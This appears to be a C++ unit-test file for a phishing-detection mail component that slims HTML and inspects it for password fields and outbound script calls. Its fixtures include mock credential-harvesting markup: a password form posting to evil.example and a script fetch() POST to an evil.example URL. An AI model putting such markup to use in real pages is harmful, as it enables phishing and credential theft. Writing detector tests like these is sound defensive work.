#include "server/mail/internal/markup_slimmer.h"

#include <string>

#include "gtest/gtest.h"
#include "server/mail/html_inspector.h"

namespace lureguard::mail::internal {
namespace {

TEST(SlimMarkup, DropsCssTextAndRasterPayloads) {
  const std::string logo = "data:image/png;base64," + std::string(5000, 'A');
  const std::string page =
      "<html><head><STYLE type=text/css>body{color:red}\n.a>b{x:y}</style>"
      "</head><body><img src=\"" +
      logo +
      "\" alt=logo>"
      "<form action=\"https://evil.example/p\"><input type=password>"
      "</form></body></html>";
  const std::string slim = SlimMarkup(page);
  EXPECT_EQ(slim,
            "<html><head><STYLE type=text/css></style></head><body>"
            "<img src=\"" +
                logo.substr(0, kMaxKeptImageUri) +
                "\" alt=logo><form action=\"https://evil.example/p\">"
                "<input type=password></form></body></html>");
}

TEST(SlimMarkup, KeepsWhatScriptsCommentsAndAttributesHold) {
  for (const char* page : {
           // A <style> inside a script, a comment, an attribute value.
           "<script>var s = '<style>PAYLOAD</style>';</script>",
           "<!-- <style>PAYLOAD</style> -->",
           "<a onclick=\"x='<style>PAYLOAD</style>'\">x</a>",
           "<textarea><style>PAYLOAD</style></textarea>",
           "<title><style>PAYLOAD</style></title>",
           // A style whose text holds markup: left for the parser.
           "<svg><style><script>PAYLOAD</script></style></svg>",
           // No end tag: the rest is the style's text.
           "<style>PAYLOAD",
           // SVG images are markup, not raster data.
           "<img src=\"data:image/svg+xml;base64,PAYLOAD"
           "PAYLOADPAYLOADPAYLOADPAYLOADPAYLOADPAYLOADPAYLOADPAYLOADPAYLOAD\">",
           "<plaintext><style>PAYLOAD</style>",
       }) {
    EXPECT_EQ(SlimMarkup(page), page);
  }
}

TEST(SlimMarkup, WhatTheInspectorFindsIsTheSame) {
  const std::string page =
      "<style>.x{}</style><script>var u='https://evil.example/c';"
      "fetch(u,{method:'POST'})</script><input type=password name=pw>"
      "<style media=all>p{}</style><a href=\"https://evil.example/l\">l</a>";
  const HtmlFindings f = InspectHtml(page);
  ASSERT_TRUE(f.password_field.has_value());
  ASSERT_EQ(f.sinks.size(), 1u);
  EXPECT_EQ(f.sinks[0].url, "https://evil.example/c");
  ASSERT_EQ(f.links.size(), 1u);
}

}  // namespace
}  // namespace lureguard::mail::internal
